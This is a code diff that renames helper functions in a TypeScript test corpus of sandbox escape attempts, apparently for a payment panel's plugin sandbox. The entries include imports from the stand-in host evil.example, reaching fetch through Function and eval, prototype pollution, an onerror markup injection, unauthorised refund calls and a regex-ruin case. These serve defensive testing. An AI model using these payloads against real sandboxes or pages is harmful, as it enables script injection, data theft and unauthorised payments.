@@ -7,13 +7,13 @@ export interface EscapeAttempt {
   readonly ends: "answers" | "throws" | "timeout" | "refused";
 }
 
-const answers = (name: string, body: string): EscapeAttempt => ({
+const answeringAttempt = (name: string, body: string): EscapeAttempt => ({
   name,
   script: `function(){${body}}`,
   ends: "answers",
 });
-const reach = (name: string, expression: string): EscapeAttempt =>
-  answers(
+const reachAttempt = (name: string, expression: string): EscapeAttempt =>
+  answeringAttempt(
     `reaches ${name}`,
     `try { return typeof (${expression}) === "undefined" ? "held" : "escaped " + ${JSON.stringify(name)} } catch (e) { return "held" }`,
   );
@@ -77,46 +77,46 @@ export const escapeCorpus: readonly EscapeAttempt[] = [
     "require",
     "module",
   ].flatMap((name) => [
-    reach(name, name),
-    reach(`globalThis.${name}`, `globalThis[${JSON.stringify(name)}]`),
+    reachAttempt(name, name),
+    reachAttempt(`globalThis.${name}`, `globalThis[${JSON.stringify(name)}]`),
   ]),
-  reach("fetch through Function", `Function("return this")().fetch`),
-  reach("fetch through eval", `(0, eval)("globalThis").fetch`),
-  reach(
+  reachAttempt("fetch through Function", `Function("return this")().fetch`),
+  reachAttempt("fetch through eval", `(0, eval)("globalThis").fetch`),
+  reachAttempt(
     "postMessage through the scope's prototypes",
     `(function(){ for (var o = self; o; o = Object.getPrototypeOf(o)) { var d = Object.getOwnPropertyDescriptor(o, "postMessage"); if (d) return d } })()`,
   ),
-  reach(
+  reachAttempt(
     "constructor of the scope",
     `self.constructor === Object ? undefined : self.constructor.name && Object.getPrototypeOf(self).constructor !== Object ? Object.getPrototypeOf(self).constructor : undefined`,
   ),
-  reach("the sandbox's own program through a caller", `arguments.callee.caller || undefined`),
-  answers(
+  reachAttempt("the sandbox's own program through a caller", `arguments.callee.caller || undefined`),
+  answeringAttempt(
     "imports a module from elsewhere",
     `return import("https://evil.example/x.js?stolen").then(function(){ return "escaped" }, function(){ return "held" })`,
   ),
-  answers(
+  answeringAttempt(
     "imports a module from a data address",
     `return import("data:text/javascript,export default 1").then(function(){ return "escaped" }, function(){ return "held" })`,
   ),
-  answers(
+  answeringAttempt(
     "pollutes prototypes for the page",
     `Object.prototype.polluted = "escaped"; Array.prototype.map = function(){ return ["escaped"] }; return "held"`,
   ),
-  answers(
+  answeringAttempt(
     "answers with keys that pollute",
     `return JSON.parse('{"__proto__":{"polluted":"escaped"},"constructor":{"prototype":{"polluted":"escaped"}}}')`,
   ),
-  answers(
+  answeringAttempt(
     "uses the panel's powers outside an action",
     `return hpay.call("refund", {}).then(function(){ return "escaped" }, function(){ return "held" })`,
   ),
-  answers(
+  answeringAttempt(
     "goes somewhere outside an action",
     `return hpay.open("https://evil.example").then(function(){ return "escaped" }, function(){ return "held" })`,
   ),
-  answers("answers markup", `return "<img src=x onerror=\\"window.polluted='escaped'\\">"`),
-  answers("hands out a forged function", `return { $run: "f1", toString: "f2" }`),
+  answeringAttempt("answers markup", `return "<img src=x onerror=\\"window.polluted='escaped'\\">"`),
+  answeringAttempt("hands out a forged function", `return { $run: "f1", toString: "f2" }`),
   { name: "loops forever", script: "function(){ while (true) {} }", ends: "timeout" },
   {
     name: "sends a regular expression into ruin",
